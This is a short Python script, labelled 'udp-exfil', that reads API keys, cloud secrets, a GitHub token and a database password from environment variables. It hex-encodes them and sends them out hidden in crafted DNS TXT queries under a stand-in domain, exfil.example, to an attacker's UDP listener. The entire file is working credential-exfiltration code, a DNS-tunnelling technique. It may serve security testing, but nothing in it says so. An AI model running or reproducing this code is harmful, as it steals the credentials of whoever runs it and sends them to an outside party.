# udp-exfil (Python): DNS tunnelling: each secret hex-encoded into the labels
# of a TXT query for <hex>.<n>.x.exfil.example, sent to the attacker's
# "resolver" (the UDP listener).  NAME= goes along, so a missing secret
# still sends its beacon.
import os, random, socket, struct, sys
T = dict(l.rstrip("\n").split("=", 1) for l in open(globals().get("TARGETS") or sys.argv[1]) if "=" in l and not l.startswith("#"))
T = {k: v.strip("'") for k, v in T.items()}

def query(labels):
    head = struct.pack(">HHHHHH", random.getrandbits(16), 0x0100, 1, 0, 0, 0)
    name = b"".join(bytes([len(l)]) + l.encode() for l in labels) + b"\0"
    return head + name + struct.pack(">HH", 16, 1)  # TXT, IN

s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for n, name in enumerate(["OPENAI_API_KEY", "AWS_SECRET_ACCESS_KEY", "GITHUB_TOKEN", "DATABASE_PASSWORD"]):
    secret = f"{name}={os.environ.get(name, '')}".encode().hex()
    for i in range(0, len(secret), 60):
        s.sendto(query([secret[i:i + 60], str(n), "x", "exfil", "example"]),
                 (T["T_TCP_HOST"], int(T["T_UDP_PORT"])))
s.close()
